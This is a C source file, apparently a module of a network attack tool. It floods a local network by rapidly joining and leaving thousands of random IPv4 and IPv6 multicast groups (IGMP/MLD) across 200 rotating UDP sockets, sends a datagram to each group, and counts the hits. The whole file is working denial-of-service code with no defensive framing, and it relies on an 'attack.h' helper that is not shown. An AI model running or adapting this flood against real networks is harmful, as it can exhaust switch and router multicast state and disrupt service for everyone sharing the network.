/* Multicast: groups joined and left by the thousand (IGMP, MLD), and datagrams to as many. */
#include <arpa/inet.h>
#include <net/if.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

/* net.ipv4.igmp_max_memberships: more groups take more sockets. */
enum { PER_SOCKET = 20, SOCKETS = 200, PORT = 9999 };

static int open_on(int family, int card) {
  int udp = socket(family, SOCK_DGRAM | SOCK_NONBLOCK, 0);
  if (udp < 0) fail("a UDP socket");
  struct ip_mreqn on = {.imr_ifindex = card};
  int level = family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
  if (family == AF_INET ? setsockopt(udp, level, IP_MULTICAST_IF, &on, sizeof on)
                        : setsockopt(udp, level, IPV6_MULTICAST_IF, &card, sizeof card))
    fail("the card of a group");
  return udp;
}

static struct place some_group(int family) {
  struct place group = place_of(family == AF_INET ? "239.1.0.0" : "ff15::", PORT);
  return somewhere_in(group);
}

static bool join(int udp, int card, struct place group) {
  struct group_req wish = {.gr_interface = card, .gr_group = group.address};
  int level = group.address.ss_family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
  return setsockopt(udp, level, MCAST_JOIN_GROUP, &wish, sizeof wish) == 0;
}

unsigned long join_groups(char **arguments) {
  int card = card_of(arguments[0]).index, family = *arguments[1] == '4' ? AF_INET : AF_INET6;
  int open[SOCKETS];
  memset(open, -1, sizeof open);
  unsigned long struck = 0;
  for (unsigned long turn = 0; attacking(); turn++) {
    int *udp = &open[turn % SOCKETS];
    /* Closing leaves its groups. */
    if (*udp >= 0) close(*udp);
    *udp = open_on(family, card);
    for (int i = 0; i < PER_SOCKET && attacking(); i++) {
      struct place group = some_group(family);
      struck += join(*udp, card, group);
      struck += sendto(*udp, "attack", 6, 0, (struct sockaddr *)&group.address, group.length) > 0;
    }
  }
  return struck;
}
